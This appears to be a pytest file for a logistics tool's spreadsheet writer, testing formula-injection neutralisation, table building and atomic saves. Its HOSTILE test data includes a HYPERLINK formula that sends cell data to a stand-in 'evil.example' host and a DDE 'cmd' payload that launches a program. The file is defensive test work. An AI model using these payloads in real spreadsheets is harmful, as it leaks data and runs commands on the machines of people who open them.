"""The workbook-writing layer: injection-safe cells, Excel tables and atomic saves."""

from __future__ import annotations

import datetime as dt
import gc
import math
import os
import subprocess
import sys
import tempfile
from enum import Enum
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from openpyxl import Workbook
from openpyxl.writer.excel import ExcelWriter

from logistics.io import xlsx
from logistics.io.atomic import check_writable
from logistics.io.xlsx import (
    FMT_INTEGER,
    MAX_CELL_CHARS,
    TRUNCATION_MARKER,
    add_sheet,
    cell_value,
    check_sheet_title,
    safe_text,
    save_atomically,
    write_cell,
    write_table,
)

HOSTILE = {
    '=HYPERLINK("http://evil.example/?"&A1,"Click")': '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1": "'+1",
    "-2": "'-2",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t=1",
    "\r=1": "'\n=1",
    "\r\n=1": "'\n=1",
    "two\r\nlines\rhere": "two\nlines\nhere",
    "\n=1": "'\n=1",
    "\x00=1": "'=1",
    "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0",
    "=": "'=",
    "'already quoted": "''already quoted",
    "-": "'-",
    "Bat\x01tal\x07ion\x1f": "Battalion",
    "bad\ufffeend\uffff": "badend",
}
"""Hostile or broken text and what must be stored: formula triggers get a visible apostrophe,
characters XML cannot hold are removed, line breaks are stored as LF (as XML reads them back)."""

HARMLESS = ["", "Gao", "quoted'", "a = b", "Kidal - north", "3+4", "#N/A", "#REF!"]


class Colour(Enum):
    red = "red"


@pytest.mark.parametrize(("text", "stored"), HOSTILE.items())
def test_safe_text_neutralises_hostile_text(text: str, stored: str) -> None:
    assert safe_text(text) == stored


@pytest.mark.parametrize("text", HARMLESS)
def test_safe_text_keeps_ordinary_text(text: str) -> None:
    assert safe_text(text) == text


def test_safe_text_cuts_overlong_text_with_a_marker() -> None:
    cut = safe_text("x" * (MAX_CELL_CHARS + 10))
    assert len(cut) == MAX_CELL_CHARS
    assert cut.endswith(TRUNCATION_MARKER)
    assert safe_text("x" * MAX_CELL_CHARS) == "x" * MAX_CELL_CHARS


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (None, None),
        (float("nan"), None),
        (float("inf"), None),
        (pd.NA, None),
        (pd.NaT, None),
        (np.int64(7), 7),
        (np.float64(2.5), 2.5),
        (np.bool_(True), True),
        (True, True),
        (Colour.red, "red"),
        (("A", "B"), "A; B"),
        (dt.date(2024, 3, 1), dt.date(2024, 3, 1)),
        (
            dt.datetime(2024, 3, 1, 12, 0, tzinfo=dt.timezone(dt.timedelta(hours=2))),
            dt.datetime(2024, 3, 1, 10, 0),
        ),
        (pd.Timestamp("2024-03-01 08:30"), dt.datetime(2024, 3, 1, 8, 30)),
        (Path("x"), "x"),
    ],
)
def test_cell_value_converts_to_what_a_cell_holds(value: object, expected: object) -> None:
    converted = cell_value(value)
    assert converted == expected
    assert type(converted) is type(expected)


def _roundtrip(tmp_path: Path, values: list[object]) -> list[openpyxl.cell.Cell]:
    """Write ``values`` down column A, save, reload, and return the reloaded cells."""
    wb = Workbook()
    for row, value in enumerate(values, start=1):
        write_cell(wb.active, row, 1, value)
    path = tmp_path / "cells.xlsx"
    save_atomically(wb, path)
    ws = openpyxl.load_workbook(path).active
    return [ws.cell(row=row, column=1) for row in range(1, len(values) + 1)]


def test_hostile_text_round_trips_as_visible_text_never_a_formula(tmp_path: Path) -> None:
    texts = [*HOSTILE, *HARMLESS[1:]]
    cells = _roundtrip(tmp_path, list(texts))
    for text, cell in zip(texts, cells, strict=True):
        assert cell.data_type == "s", text
        assert cell.value == safe_text(text)


def test_write_cell_forces_text_type_where_openpyxl_would_infer_formula_or_error() -> None:
    ws = Workbook().active
    # Plain openpyxl turns these into a formula and an error cell; the writer must not.
    ws["Z1"] = "#N/A"
    assert ws["Z1"].data_type == "e"
    assert write_cell(ws, 1, 1, "#N/A").data_type == "s"
    assert write_cell(ws, 2, 1, "=1+1").data_type == "s"
    assert write_cell(ws, 3, 1, 3.5, FMT_INTEGER).number_format == FMT_INTEGER
    assert write_cell(ws, 4, 1, dt.date(2024, 1, 2)).number_format == xlsx.DATE_FORMAT


@pytest.mark.parametrize("title", ["x" * 32, "a/b", "a:b", "what?", "[x]", "", "'quoted"])
def test_bad_sheet_titles_are_refused(title: str) -> None:
    with pytest.raises(ValueError, match="invalid sheet name"):
        check_sheet_title(title)


def test_good_sheet_title_is_accepted() -> None:
    assert check_sheet_title("In_ThreatLevels") == "In_ThreatLevels"
    assert check_sheet_title("x" * 31) == "x" * 31


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "base_id": ["GAO", "KID"],
            "name": ["=evil()", "Kidal camp with a rather long descriptive name"],
            "troops": [np.int64(150), np.int64(250)],
        }
    )


def test_write_table_makes_a_filterable_table_with_frozen_header(tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    placed = write_table(ws, _frame(), "Bases", {"troops": FMT_INTEGER})
    path = tmp_path / "t.xlsx"
    save_atomically(wb, path)

    ws = openpyxl.load_workbook(path).active
    table = ws.tables["Bases"]
    assert table.ref == "A1:C3"
    assert [c.name for c in table.tableColumns] == ["base_id", "name", "troops"]
    assert [c.value for c in ws[1]] == ["base_id", "name", "troops"]
    assert ws.freeze_panes == "A2"
    assert ws.print_title_rows == "$1:$1"
    assert ws["B2"].value == "'=evil()"
    assert ws["C3"].value == 250
    assert ws["C3"].number_format == FMT_INTEGER
    assert placed.data_range("troops") == "C2:C3"
    # wide enough for the longest value, never below the minimum
    assert ws.column_dimensions["B"].width >= len("Kidal camp with a rather long descriptive name")
    assert ws.column_dimensions["A"].width >= xlsx.MIN_COLUMN_WIDTH


def test_empty_frame_gives_header_and_one_blank_row() -> None:
    ws = Workbook().active
    placed = write_table(ws, _frame().iloc[0:0], "Empty")
    assert ws.tables["Empty"].ref == "A1:C2"
    assert placed.n_rows == 0
    assert ws["A2"].value is None


def test_second_table_on_a_sheet_never_narrows_columns() -> None:
    ws = Workbook().active
    write_table(ws, _frame(), "First", freeze_header=False)
    wide = ws.column_dimensions["B"].width
    write_table(ws, pd.DataFrame({"a": [1], "b": [2]}), "Second", top_row=10, freeze_header=False)
    assert ws.column_dimensions["B"].width == wide
    assert ws.freeze_panes is None


@pytest.mark.parametrize("name", ["A1", "R1C1", "r", "C", "1abc", "has space", "a-b", "XFD1048576"])
def test_invalid_table_names_are_refused(name: str) -> None:
    with pytest.raises(ValueError, match="invalid table name"):
        write_table(Workbook().active, _frame(), name)


def test_table_names_are_unique_across_the_workbook_ignoring_case() -> None:
    wb = Workbook()
    write_table(wb.active, _frame(), "Bases")
    with pytest.raises(ValueError, match="already used"):
        write_table(add_sheet(wb, "Other"), _frame(), "BASES")


@pytest.mark.parametrize(
    "columns",
    [["a", "a"], ["a", "A"], ["a", 1], ["a", ""], ["=x", "b"]],
)
def test_bad_headers_are_refused(columns: list[object]) -> None:
    frame = pd.DataFrame([[1, 2]], columns=columns)
    with pytest.raises(ValueError, match="header"):
        write_table(Workbook().active, frame, "T")


def test_number_format_for_unknown_column_is_refused() -> None:
    with pytest.raises(ValueError, match="number formats for columns not in table"):
        write_table(Workbook().active, _frame(), "T", {"strength": FMT_INTEGER})


# --------------------------------------------------------------------------------------------------
# Atomic save
# --------------------------------------------------------------------------------------------------


def _workbook_with(text: str) -> Workbook:
    wb = Workbook()
    write_cell(wb.active, 1, 1, text)
    return wb


def _fail_mid_save(monkeypatch: pytest.MonkeyPatch) -> None:
    """Make writing a workbook put part of a sheet in the archive and then crash."""

    def broken_write(self: ExcelWriter) -> None:
        self._archive.writestr("xl/worksheets/sheet1.xml", b"<worksheet>half a sheet")
        raise OSError("disk full")

    monkeypatch.setattr(ExcelWriter, "write_data", broken_write)


def test_save_atomically_writes_the_complete_file(tmp_path: Path) -> None:
    path = tmp_path / "plan.xlsx"
    save_atomically(_workbook_with("new"), path)
    assert openpyxl.load_workbook(path).active["A1"].value == "new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx"]


def test_saved_workbook_is_readable_by_others_under_the_usual_umask(tmp_path: Path) -> None:
    """A plan is shared: it must not keep the private 0600 mode of its temporary file."""
    previous = os.umask(0o022)
    try:
        target = tmp_path / "plan.xlsx"
        save_atomically(Workbook(), target)
    finally:
        os.umask(previous)
    assert target.stat().st_mode & 0o777 == 0o644


def test_failure_mid_save_leaves_no_file_and_no_temporary(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _fail_mid_save(monkeypatch)
    with pytest.raises(OSError, match="disk full"):
        save_atomically(_workbook_with("new"), tmp_path / "plan.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_failure_mid_save_leaves_existing_file_untouched(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "plan.xlsx"
    save_atomically(_workbook_with("old"), path)
    before = path.read_bytes()
    _fail_mid_save(monkeypatch)
    with pytest.raises(OSError, match="disk full"):
        save_atomically(_workbook_with("new"), path)
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.xlsx"]


def test_failure_at_replace_removes_the_complete_temporary(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(self: Path, target: object) -> Path:
        raise PermissionError("target locked")

    monkeypatch.setattr(Path, "replace", refuse)
    with pytest.raises(PermissionError):
        save_atomically(_workbook_with("new"), tmp_path / "plan.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_interrupt_during_save_also_cleans_up(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def interrupted(self: ExcelWriter) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(ExcelWriter, "write_data", interrupted)
    with pytest.raises(KeyboardInterrupt):
        save_atomically(_workbook_with("new"), tmp_path / "plan.xlsx")
    assert list(tmp_path.iterdir()) == []


def test_failed_save_leaves_no_archive_for_the_garbage_collector(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A full disk once printed "Exception ignored in ZipFile.__del__ … seek of closed file"
    after the proper message: the archive was left open for the garbage collector to close."""
    unraisable: list[object] = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
    _fail_mid_save(monkeypatch)
    with pytest.raises(OSError, match="disk full"):
        save_atomically(_workbook_with("new"), tmp_path / "plan.xlsx")
    gc.collect()
    assert unraisable == []


def test_stale_temporary_of_a_dead_process_is_removed_by_the_next_save(tmp_path: Path) -> None:
    """A process killed during its save (SIGKILL) leaves its temporary file; the next save into
    the folder removes it, and leaves a live process's temporary file alone."""
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        capture_output=True,
        text=True,
        check=True,
    )
    stale = tmp_path / f".plan-{dead.stdout.strip()}-abcd1234.xlsx"
    stale.write_bytes(b"")
    live = tmp_path / f".other-{os.getppid()}-abcd1234.xlsx"
    live.write_bytes(b"")
    save_atomically(_workbook_with("new"), tmp_path / "plan.xlsx")
    assert sorted(p.name for p in tmp_path.iterdir()) == [live.name, "plan.xlsx"]


def test_an_unwritable_folder_is_named_by_the_output_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The message names the plan the user asked for, not the hidden temporary file."""

    def refuse(**_: object) -> tuple[int, str]:
        raise PermissionError(13, "Permission denied", str(tmp_path / ".plan-1-abcdefgh.xlsx"))

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    with pytest.raises(PermissionError) as raised:
        check_writable(tmp_path / "plan.xlsx")
    assert raised.value.filename == str(tmp_path / "plan.xlsx")
    with pytest.raises(PermissionError) as raised:
        save_atomically(_workbook_with("new"), tmp_path / "plan.xlsx")
    assert raised.value.filename == str(tmp_path / "plan.xlsx")


def test_nan_cells_are_empty_not_nan_text(tmp_path: Path) -> None:
    cells = _roundtrip(tmp_path, [float("nan"), 1.5, math.inf])
    assert [c.value for c in cells] == [None, 1.5, None]
